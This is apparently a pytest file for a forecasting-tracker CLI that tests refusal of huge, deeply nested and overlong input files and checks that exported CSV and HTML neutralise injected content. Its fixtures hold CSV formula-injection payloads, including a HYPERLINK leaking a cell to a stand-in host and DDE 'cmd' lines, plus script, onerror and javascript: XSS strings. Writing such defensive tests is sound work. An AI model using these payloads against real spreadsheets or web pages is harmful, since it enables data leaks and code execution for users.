"""Bad input that tests/cli/test_bad_input.py lacks: the huge, the deep, the very long, and text that
would run as a formula in a spreadsheet or as a script in a browser.

What is refused gets one line naming the file, line and field, a non-zero exit, no traceback, and the
store as it was. What is accepted (formulas, markup) is stored as written and neutralised on its way out.
"""

from __future__ import annotations

import csv
import os
import re
import subprocess
import sys
import textwrap

import pytest

from conftest import store_snapshot

# Decision: a question's text is a one-line title (tables, reminders, headings), so a million
# characters is refused (domain.MAX_TEXT_CHARS); the detail belongs in the criteria. Deeply nested files
# are refused by tracker.nesting's own count before any parser runs (ledger.MAX_DEPTH), whatever PyYAML
# release is installed: each case runs on the locked one and on the release before it.

BASE = textwrap.dedent("""\
    questions:
      - id: base
        text: Will the base case hold?
        criteria: It holds.
        due: 2027-01-01
        predictions:
          - {forecaster: ana, made_at: 2026-01-01T00:00:00Z, probability: 0.6}
    """)


@pytest.fixture
def based(cli, workspace, database_url):
    """The workspace with one question recorded; returns the store's snapshot before the bad input."""
    (workspace / "base.yaml").write_text(BASE)
    assert cli("apply", "base.yaml").exit_code == 0
    return store_snapshot(database_url)


def tracker(*args: str, pythonpath: str | None = None) -> subprocess.CompletedProcess:
    """The real CLI in a subprocess (a crash of the parser must fail the test, not pytest)."""
    env = {k: v for k, v in os.environ.items() if k != "TRACKER_DEBUG"}
    if pythonpath:
        env["PYTHONPATH"] = pythonpath
    return subprocess.run([sys.executable, "-m", "tracker", *args], capture_output=True, text=True, env=env,
                          timeout=120)


@pytest.fixture(params=["locked", "previous"])
def pyyaml_path(request) -> str | None:
    """PYTHONPATH giving the locked PyYAML, or the release before it (scripts/test installs it aside)."""
    if request.param == "locked":
        return None
    folder = os.environ.get("TRACKER_TEST_PYYAML_COMPAT", "")
    if not folder or not os.path.isdir(folder):
        if os.environ.get("CI") == "true":
            pytest.fail("TRACKER_TEST_PYYAML_COMPAT is not a folder: run ./scripts/test", pytrace=False)
        pytest.skip("no previous PyYAML beside the venv (./scripts/test installs it)")
    import yaml

    seen = subprocess.run([sys.executable, "-c", "import yaml; print(yaml.__version__)"], capture_output=True,
                          text=True, env={**os.environ, "PYTHONPATH": folder}, check=True).stdout.strip()
    assert seen != yaml.__version__, "the previous PyYAML is the locked one"
    return folder


def assert_refused(code: int, stdout: str, stderr: str, first_line: str | re.Pattern) -> None:
    assert code == 1, (code, stderr[-2000:])
    assert stdout == ""
    assert "Traceback" not in stderr and "internal error" not in stderr
    lines = stderr.splitlines()
    assert lines[-1] == "error: 1 problem; nothing was written"
    assert len(lines) == 2, stderr[:2000]
    if isinstance(first_line, str):
        assert lines[0] == first_line
    else:
        assert first_line.fullmatch(lines[0]), lines[0]


# ----------------------------------------------------------------------------------------------
# Size


def test_file_over_64_mib_is_refused_without_reading_it(cli, workspace, database_url, based):
    huge = workspace / "huge.yaml"
    with huge.open("wb") as handle:  # sparse: 65 MiB on paper, nothing on disk
        handle.truncate(65 * 2**20)
    result = cli("apply", "huge.yaml")
    assert_refused(result.exit_code, result.stdout, result.stderr, "huge.yaml: file is larger than 64 MiB")
    assert store_snapshot(database_url) == based


def test_generated_file_over_64_mib_is_refused(cli, workspace, database_url, based):
    # A real (not sparse) file of valid-looking questions just over the limit.
    entry = ("  - id: q{i}\n    text: Will event {i} happen?\n    criteria: It is reported.\n    due: 2027-01-01\n"
             "    predictions:\n      - {{forecaster: ana, made_at: 2026-01-01T00:00:00Z, probability: 0.5}}\n")
    with (workspace / "big.yaml").open("w") as handle:
        handle.write("questions:\n")
        i = 0
        while handle.tell() <= 64 * 2**20:
            handle.write("".join(entry.format(i=i + k) for k in range(1000)))
            i += 1000
    result = cli("apply", "big.yaml")
    assert_refused(result.exit_code, result.stdout, result.stderr, "big.yaml: file is larger than 64 MiB")
    assert store_snapshot(database_url) == based


# ----------------------------------------------------------------------------------------------
# Depth

DEEP = [
    pytest.param("deep.yaml", "questions:\n  - id: deep\n    text: " + "[" * 1_000 + "]" * 1_000 + "\n",
                 r"deep\.yaml:3: .*nested.*", id="yaml-flow-1000"),
    pytest.param("deeper.yaml", "questions:\n  - id: deep\n    text: " + "[" * 100_000 + "]" * 100_000 + "\n",
                 r"deeper\.yaml:3: .*nested.*", id="yaml-flow-100000"),
    pytest.param("maps.yaml", "questions: " + "{a: " * 50_000 + "1" + "}" * 50_000 + "\n",
                 r"maps\.yaml:1: .*nested.*", id="yaml-mappings-50000"),
    pytest.param("block.yaml", "questions:\n" + "".join("  " * k + "- \n" for k in range(1, 600)) + "  " * 600 + "- x\n",
                 r"block\.yaml:\d+: .*nested.*", id="yaml-block-600"),
    pytest.param("deep.json", '{"questions": ' + "[" * 100_000 + "]" * 100_000 + "}\n",
                 r"deep\.json(:\d+)?: .*nested.*", id="json-100000"),
]


@pytest.mark.parametrize("name,content,expected", DEEP)
def test_deeply_nested_file_is_one_line_not_a_crash(workspace, database_url, based, name, content, expected,
                                                     pyyaml_path):
    (workspace / name).write_text(content)
    done = tracker("apply", name, pythonpath=pyyaml_path)
    assert done.returncode >= 0, f"the parser crashed with signal {-done.returncode}"
    assert_refused(done.returncode, done.stdout, done.stderr, re.compile(expected))
    assert store_snapshot(database_url) == based


# ----------------------------------------------------------------------------------------------
# Length

MILLION = ("Will " + "very " * 200_000)[:999_999] + "?"  # 1,000,000 characters


def test_million_character_text_is_exactly_a_million():
    assert len(MILLION) == 1_000_000


def test_million_character_question_text_is_refused_from_a_file(cli, workspace, database_url, based):
    (workspace / "long.yaml").write_text(
        "questions:\n  - id: long\n    text: " + MILLION + "\n    criteria: c\n    due: 2027-01-01\n    predictions:\n"
        "      - {forecaster: ana, made_at: 2026-01-01T00:00:00Z, probability: 0.5}\n")
    result = cli("apply", "long.yaml")
    assert_refused(result.exit_code, result.stdout, result.stderr, re.compile(r"long\.yaml:3: text: .*too long.*"))
    assert len(result.stderr) < 500  # the message does not echo the text back
    assert store_snapshot(database_url) == based


def test_million_character_question_text_is_refused_from_the_command_line(cli, database_url, based):
    # (A real shell cannot even pass it: one argument is limited to 128 KiB on Linux.)
    result = cli("log", MILLION, "-p", "0.5", "--due", "2027-01-01", "-c", "c")
    assert result.exit_code == 1
    assert result.stdout == ""
    assert re.fullmatch(r"error: TEXT: .*too long.*\n", result.stderr), result.stderr[:300]
    assert store_snapshot(database_url) == based


def test_long_criteria_rationale_and_note_are_accepted(cli, workspace, database_url):
    # Criteria, rationale and notes are prose: long is allowed up to domain.MAX_PROSE_CHARS (10,000), and
    # survives a round trip.
    long = ("word " * 2_000).strip() + "."
    assert len(long) == 10_000
    assert cli("log", "Will the long one hold?", "--id", "long", "-p", "0.5", "--due", "2027-01-01",
               "-c", long, "-r", long).exit_code == 0
    shown = cli("show", "long", "--json")
    assert shown.exit_code == 0
    assert long in shown.stdout


# ----------------------------------------------------------------------------------------------
# Formulas in CSV

FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+SUM(1,2)", "-2+3+cmd|' /C calc'!A0",
            "@SUM(A1:A9)", "=1+1", "=cmd|' /C notepad'!'A1'"]


def hostile_scales(workspace, scales: dict[str, list[str]]) -> None:
    """Workspace scales named and worded with hostile text: apply checks phrases against their scale, so
    hostile phrases get in only through a scale that has them (which is how such text would arrive)."""
    import yaml

    (workspace / "scales").mkdir(exist_ok=True)
    for number, (name, phrases) in enumerate(scales.items()):
        entries = [{"phrase": phrase, "band": [0.4, 0.6], "probability": 0.5} for phrase in phrases]
        (workspace / "scales" / f"hostile{number}.yaml").write_text(yaml.safe_dump(
            {"name": name, "title": name, "source": name, "phrases": entries}))


def test_formulas_in_every_text_field_are_neutralised_in_csv(cli, workspace, database_url):
    f = FORMULAS
    hostile_scales(workspace, {f[3]: [f[2]], f[4]: [f[3]]})
    question = {
        "questions": [{
            "id": "formulas", "text": f[0], "criteria": f[1], "due": "2027-01-01", "phrase": f[2], "scale": f[3],
            "source": {"document": f[4], "publisher": f[5], "quote": f[0], "location": f[1], "url": f[2]},
            "predictions": [{"forecaster": "ana", "made_at": "2026-01-01T00:00:00Z", "probability": 0.5,
                             "phrase": f[3], "scale": f[4], "rationale": f[5]}],
        }],
        "resolutions": [{"question_id": "formulas", "outcome": "yes", "resolved_at": "2026-02-01T00:00:00Z",
                         "resolver": "ana", "evidence": [f[0], f[1]], "note": f[2]}],
    }
    import json

    (workspace / "f.json").write_text(json.dumps(question))
    applied = cli("apply", "f.json")
    assert applied.exit_code == 0, applied.stderr
    exported = cli("export", "--format", "csv", "out")
    assert exported.exit_code == 0, exported.stderr
    cells = []
    for path in sorted((workspace / "out").glob("*.csv")):
        with path.open(newline="") as handle:
            cells += [(path.name, cell) for row in csv.reader(handle) for cell in row]
    assert len({name for name, _ in cells}) == 3
    live = [(name, cell) for name, cell in cells if cell and cell[0] in "=+-@\t\r"]
    assert not live, f"cells a spreadsheet would run: {live}"
    texts = {cell for _, cell in cells}
    for formula in FORMULAS:
        # Each is kept (with its leading apostrophe), in a cell of its own or inside a joined one.
        assert any(("'" + formula) in cell for cell in texts), formula


# ----------------------------------------------------------------------------------------------
# Markup in the HTML report

SCRIPT = "<script>alert('{}')</script>"
IMG = "<img src=x onerror=alert('{}')>"
LINK = "<a href=\"javascript:alert('{0}')\">{0}</a>"


def markup(field: str) -> str:
    return f"{SCRIPT.format(field)} {IMG.format(field)} {LINK.format(field)}"


def test_markup_in_every_text_field_is_escaped_in_the_report(cli, workspace, database_url):
    import json

    hostile_scales(workspace, {markup("scale"): [markup("phrase"), markup("prediction-phrase")]})
    question = {
        "questions": [
            {"id": "markup", "text": "Will " + markup("text") + " happen?", "criteria": markup("criteria"),
             "due": "2026-06-01", "tags": ["markup"], "phrase": markup("phrase"), "scale": markup("scale"),
             "source": {"document": markup("document"), "publisher": markup("publisher"), "quote": markup("quote"),
                        "location": markup("location"), "url": "javascript:alert('url')"},
             "predictions": [{"forecaster": "ana", "made_at": "2026-01-01T00:00:00Z", "probability": 0.7,
                              "phrase": markup("prediction-phrase"), "scale": markup("scale"),
                              "rationale": markup("rationale")}]},
            {"id": "plain", "text": "Will the plain one hold?", "criteria": "c", "due": "2026-06-01",
             "predictions": [{"forecaster": "bo", "made_at": "2026-01-01T00:00:00Z", "probability": 0.2,
                              "rationale": markup("rationale2")}]},
        ],
        "resolutions": [
            {"question_id": "markup", "outcome": "yes", "resolved_at": "2026-02-01T00:00:00Z", "resolver": "ana",
             "evidence": ["javascript:alert('evidence')", markup("evidence")], "note": markup("note")},
            {"question_id": "plain", "outcome": "no", "resolved_at": "2026-02-01T00:00:00Z", "resolver": "ana",
             "evidence": "javascript:alert('evidence2')", "note": markup("note2")},
        ],
    }
    (workspace / "m.json").write_text(json.dumps(question))
    applied = cli("apply", "m.json")
    assert applied.exit_code == 0, applied.stderr
    report = cli("report")
    assert report.exit_code == 0, report.stderr
    page = (workspace / "reports" / "index.html").read_text()

    assert not re.search(r"<\s*script", page, re.I), "a live <script> tag"
    assert not re.search(r"<\s*[a-z][^>]*\son[a-z]+\s*=", page, re.I), "a live tag with an event handler"
    assert not re.search(r"""(?:href|src|action|formaction)\s*=\s*["']?\s*javascript:""", page, re.I), \
        "a live javascript: URL"
    # The report's own tags (its figures, its table of contents' links within the page) are not from the store.
    own = re.sub(r'<a href="#[a-z0-9-]*">', "", page.replace('<img src="data:image/png;base64,', ""))
    assert not re.search(r"<\s*(?:img|a|iframe|object|embed)\b", own, re.I), "a live tag from the store"
    # Where the markup shows, it shows as text: escaped, and present (the fields did reach the page).
    assert "&lt;script&gt;alert(&#x27;text&#x27;)&lt;/script&gt;" in page
    assert "onerror=alert(&#x27;text&#x27;)&gt;" in page
    assert re.search(r"<meta[^>]+Content-Security-Policy", page, re.I), "the page's CSP is gone"
